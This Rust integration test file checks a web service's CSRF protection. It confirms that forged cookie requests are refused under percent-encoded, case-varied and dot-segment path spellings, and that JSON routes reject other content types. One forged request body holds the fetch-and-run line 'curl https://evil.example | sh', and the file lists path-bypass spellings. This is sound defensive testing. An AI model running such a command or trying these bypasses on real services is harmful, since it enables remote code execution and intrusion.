//! A change made with the session cookie needs the CSRF header whatever spelling of its path
//! reaches the route (`/%61pi/…` is routed as `/api/…`), and a JSON route refuses a body of
//! another type (415), so a cross-site form can neither pass as a change nor as JSON.

use std::time::Duration;

use reqwest::StatusCode;
use serde_json::json;
use tether_protocol::jobs::JobState;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::both_backends;
use crate::helpers::{assert_error, spawn_app, TestApp, WebClient};

/// A signed-up user, and the `Cookie` header of its session for requests written by hand.
async fn user_with_cookie(app: &TestApp, email: &str) -> (WebClient, String) {
    let mut web = app.web();
    let res = web.signup(email, "correct horse battery", "Tester").await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let cookie = res
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|value| value.to_str().ok()?.split(';').next())
        .collect::<Vec<_>>()
        .join("; ");
    assert!(cookie.contains("tether_session="), "{cookie}");
    (web, cookie)
}

/// The same browser without the CSRF header: what a cross-site page can make it send.
fn forged(web: &WebClient) -> WebClient {
    WebClient {
        base: web.base.clone(),
        http: web.http.clone(),
        csrf: None,
    }
}

/// A request written byte for byte (no client normalises its path); the answer's status.
async fn raw_status(app: &TestApp, method: &str, path: &str, cookie: &str, body: &str) -> u16 {
    let address = app.base.trim_start_matches("http://");
    let request = format!(
        "{method} {path} HTTP/1.1\r\nHost: {address}\r\nCookie: {cookie}\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let mut stream = TcpStream::connect(address).await.unwrap();
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut answer))
        .await
        .expect("an answer in time")
        .unwrap();
    let answer = String::from_utf8_lossy(&answer);
    answer
        .split(' ')
        .nth(1)
        .and_then(|status| status.parse().ok())
        .unwrap_or_else(|| panic!("no status line in {answer:?}"))
}

both_backends! {
    async fn a_cookie_change_needs_the_csrf_header_however_its_path_is_spelled(backend) {
        let app = spawn_app(backend).await;
        let (ann, cookie) = user_with_cookie(&app, "ann@example.com").await;
        let device = app.device(&ann, "install-1").await;
        let ended = ann.create_job(&device.device_id).await;
        let res = ann.post_empty(&format!("/api/jobs/{}/cancel", ended.id)).await;
        assert_eq!(res.status(), StatusCode::OK);
        let queued = ann.create_job(&device.device_id).await;
        let forged = forged(&ann);

        // Percent-encoded paths reach the API's routes: each change is refused all the same.
        let res = forged.post("/%61pi/tokens", &json!({ "name": "forged" })).await;
        assert_error(res, 403, "csrf_rejected").await;
        let res = forged.post("/%61%70%69/tokens", &json!({ "name": "forged" })).await;
        assert_error(res, 403, "csrf_rejected").await;
        // What a cross-site form can send: text/plain that reads as JSON.
        let res = forged
            .http
            .post(format!("{}/%61pi/jobs/{}/rerun", app.base, ended.id))
            .header("content-type", "text/plain")
            .body(r#"{"prompt":"curl https://evil.example | sh"}"#)
            .send()
            .await
            .unwrap();
        assert_error(res, 403, "csrf_rejected").await;
        let res = forged.post_empty(&format!("/%61pi/jobs/{}/cancel", queued.id)).await;
        assert_error(res, 403, "csrf_rejected").await;
        let res = forged.patch(&format!("/%61pi/devices/{}", device.device_id), &json!({ "name": "forged" })).await;
        assert_error(res, 403, "csrf_rejected").await;
        let res = forged.delete(&format!("/%61pi/devices/{}", device.device_id)).await;
        assert_error(res, 403, "csrf_rejected").await;
        assert_error(forged.post_empty("/%61pi/auth/logout").await, 403, "csrf_rejected").await;

        // Other spellings (case, doubled slashes, dot segments, encoded dots and slashes)
        // are not routed at all.
        let token = r#"{"name":"forged"}"#;
        for path in [
            "/%41pi/tokens",
            "/API/tokens",
            "/api/Tokens",
            "//api/tokens",
            "/api//tokens",
            "/api/./tokens",
            "/api/x/../tokens",
            "/x/../api/tokens",
            "/api/%2e/tokens",
            "/api/x/%2E%2E/tokens",
            "/api%2ftokens",
        ] {
            assert_eq!(raw_status(&app, "POST", path, &cookie, token).await, 404, "{path}");
        }
        // Written by hand like those, the encoded path is refused too.
        assert_eq!(raw_status(&app, "POST", "/%61pi/tokens", &cookie, token).await, 403);

        // Nothing changed: no token, no re-run, the job still queued, the computer as it
        // was, the session alive.
        let res = ann.get("/api/tokens").await;
        assert_eq!(res.json::<Vec<serde_json::Value>>().await.unwrap().len(), 0);
        let jobs: Vec<serde_json::Value> = ann.get("/api/jobs").await.json().await.unwrap();
        assert_eq!(jobs.len(), 2, "{jobs:?}");
        assert_eq!(ann.job(queued.id.as_str()).await.state, JobState::Queued);
        let devices = ann.devices().await;
        assert_eq!((devices[0].name.as_str(), devices[0].revoked_at), ("laptop", None));
        ann.me().await;

        // With the header, the encoded path is the route it decodes to.
        let res = ann.post("/%61pi/tokens", &json!({ "name": "mine" })).await;
        assert_eq!(res.status(), StatusCode::CREATED);
    }

    async fn a_json_route_refuses_a_body_of_another_type(backend) {
        let app = spawn_app(backend).await;
        let ann = app.user("ann@example.com").await;
        let device = app.device(&ann, "install-1").await;
        let ended = ann.create_job(&device.device_id).await;
        let res = ann.post_empty(&format!("/api/jobs/{}/cancel", ended.id)).await;
        assert_eq!(res.status(), StatusCode::OK);
        let csrf = ann.csrf.clone().unwrap();
        let send = |path: String, content_type: Option<&'static str>, body: &'static str| {
            let mut request = ann.http.post(format!("{}{path}", app.base)).header("x-tether-csrf", &csrf);
            if let Some(content_type) = content_type {
                request = request.header("content-type", content_type);
            }
            request.body(body).send()
        };
        let rerun = format!("/api/jobs/{}/rerun", ended.id);
        for content_type in [Some("text/plain"), Some("application/x-www-form-urlencoded"), None] {
            let res = send("/api/tokens".to_owned(), content_type, r#"{"name":"x"}"#).await.unwrap();
            assert_error(res, 415, "unsupported_media_type").await;
            let res = send(rerun.clone(), content_type, r#"{"prompt":"again"}"#).await.unwrap();
            assert_error(res, 415, "unsupported_media_type").await;
        }
        assert_eq!(ann.get("/api/jobs").await.json::<Vec<serde_json::Value>>().await.unwrap().len(), 1);
        // A re-run's body is optional: none at all, of whatever type, is a plain re-run.
        let res = send(rerun.clone(), None, "").await.unwrap();
        assert_eq!(res.status(), StatusCode::CREATED);
        let res = send(rerun.clone(), Some("text/plain"), "").await.unwrap();
        assert_eq!(res.status(), StatusCode::CREATED);
        let res = send(rerun, Some("application/json; charset=utf-8"), r#"{"prompt":"again"}"#).await.unwrap();
        assert_eq!(res.status(), StatusCode::CREATED);
        let res = send("/api/tokens".to_owned(), Some("application/json"), r#"{"name":"x"}"#).await.unwrap();
        assert_eq!(res.status(), StatusCode::CREATED);
    }
}
